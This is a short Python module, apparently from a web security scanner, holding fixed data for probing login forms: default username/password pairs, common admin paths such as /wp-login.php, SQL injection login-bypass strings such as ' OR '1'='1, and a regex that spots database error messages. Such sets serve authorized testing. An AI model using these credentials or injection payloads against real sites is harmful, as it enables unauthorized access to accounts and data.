"""Fixed payload and credential sets for login-form probes."""

from __future__ import annotations

import re

# Common default credentials (username, password)
DEFAULT_CREDENTIALS: list[tuple[str, str]] = [
    ("admin", "admin"),
    ("admin", "password"),
    ("admin", "123456"),
    ("root", "root"),
    ("administrator", "administrator"),
]

ADMIN_PATHS: tuple[str, ...] = (
    "/admin",
    "/administrator",
    "/admin/login",
    "/wp-login.php",
)

SQLI_LOGIN_PAYLOADS: tuple[str, ...] = (
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    '" OR ""="',
)

DB_ERROR_PATTERN = re.compile(
    r"sql syntax|mysql_fetch|mysqli?_|ORA-\d{5}|microsoft sql server|unclosed quotation mark|"
    r"postgresql|pg_query|sqlstate\[|sqlite3?[:_.]|odbc|syntax error at or near",
    re.IGNORECASE,
)
